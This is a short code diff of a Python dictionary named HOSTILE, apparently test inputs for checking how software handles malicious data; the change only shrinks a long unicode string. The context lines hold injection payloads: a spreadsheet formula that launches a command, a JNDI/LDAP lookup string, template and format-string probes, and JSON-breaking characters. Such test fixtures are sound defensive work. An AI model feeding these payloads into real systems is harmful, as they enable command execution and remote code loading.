@@ -28,7 +28,7 @@ HOSTILE = {
     "formula": "=cmd|' /C calc'!A0",
     "json": '"}]\n{"item": 1}\n,\u2028\u2029',
     "template": "{{7*7}} ${jndi:ldap://x} %s %n",
-    "long": "é😀" * 500_000,
+    "long": "é😀" * 250_000,
 }
 
 
